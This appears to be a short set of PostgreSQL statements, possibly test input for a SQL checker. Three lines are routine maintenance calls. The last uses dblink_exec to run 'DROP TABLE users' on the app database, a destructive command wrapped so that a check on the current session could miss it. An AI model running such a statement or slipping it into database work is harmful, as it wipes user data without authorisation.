SET lock_timeout = '2s';
SELECT app.rebuild_search_index();
SELECT now(), gen_random_uuid(), pg_advisory_lock(1);
SELECT dblink_exec('dbname=app', 'DROP TABLE users');
